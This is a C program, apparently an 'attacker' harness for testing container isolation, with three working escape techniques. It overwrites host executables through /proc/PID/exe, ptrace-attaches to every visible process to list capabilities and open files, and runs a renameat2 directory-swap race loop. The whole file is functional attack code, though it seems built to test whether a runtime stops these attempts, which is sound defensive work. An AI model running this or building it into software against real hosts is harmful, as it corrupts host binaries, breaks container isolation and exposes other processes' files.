/* What somebody does who controls a container and wants more, in a loop, until it is killed:
 *
 *     attacker overwrite           write to the executable of any process that is not of this container
 *     attacker trace               trace every process, and say of each what it is, may, and has open
 *     attacker swap DIR ONE OTHER  exchange two names of a directory
 *
 * It says "up" first, and one line of each catch.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[4096], target[4096];

/* The target of the link /proc/PID/NAME, or "own" for the root directory that this process has itself; null if there is none for this
 * process to see. */
static const char *link_of(int pid, const char *name) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0) return NULL;
    target[length] = 0;
    struct stat theirs, own;
    if (!stat(path, &theirs) && !stat("/", &own) && theirs.st_dev == own.st_dev && theirs.st_ino == own.st_ino)
        return "own";
    return target;
}

/* Calls `look` for each other process but the first, again and again. */
static void watch(void (*look)(int pid)) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    for (;; rewinddir(proc))
        while ((entry = readdir(proc)))
            if (isdigit(*entry->d_name)) {
                int pid = atoi(entry->d_name);
                if (pid > 1 && pid != getpid()) look(pid);
            }
}

static void overwrite(int pid) {
    struct stat own, other;
    char again[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int exe = open(path, O_PATH);
    if (exe < 0) return;
    stat("/proc/self/exe", &own);
    fstat(exe, &other);
    if (own.st_dev == other.st_dev) {
        close(exe);
        return;
    }
    /* As long as it runs, it is busy; this process can wait. */
    snprintf(again, sizeof again, "/proc/self/fd/%d", exe);
    int fd;
    do fd = open(again, O_WRONLY);
    while (fd < 0 && errno == ETXTBSY);
    int failed = fd < 0 || write(fd, "owned", 5) != 5;
    printf("%s\n", failed ? strerror(errno) : "written");
    close(fd);
    close(exe);
}

static void say_open_files(int pid) {
    static char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *files = opendir(dir);
    struct dirent *entry;
    while (files && (entry = readdir(files))) {
        char name[300];
        snprintf(name, sizeof name, "fd/%s", entry->d_name);
        const char *file = *entry->d_name == '.' ? NULL : link_of(pid, name);
        if (file) printf(" %s=%s", entry->d_name, file);
    }
    if (files) closedir(files);
}

static void trace(int pid) {
    static int last;
    static char last_exe[4096];
    if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    int status;
    waitpid(pid, &status, __WALL);
    const char *exe = link_of(pid, "exe");
    if (WIFSTOPPED(status) && exe && (pid != last || strcmp(exe, last_exe))) {
        last = pid;
        strcpy(last_exe, exe);
        printf("%s", exe);
        snprintf(path, sizeof path, "/proc/%d/status", pid);
        FILE *file = fopen(path, "r");
        char line[256];
        while (file && fgets(line, sizeof line, file))
            if (!strncmp(line, "CapPrm:\t", 8)) printf(" %.16s", line + 8);
        if (file) fclose(file);
        say_open_files(pid);
        printf("\n");
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *mode = argc > 1 ? argv[1] : "";
    puts("up");
    if (!strcmp(mode, "overwrite")) watch(overwrite);
    if (!strcmp(mode, "trace")) watch(trace);
    if (!strcmp(mode, "swap") && argc == 5 && !chdir(argv[2]))
        for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[3], AT_FDCWD, argv[4], 2);
    return 2;
}
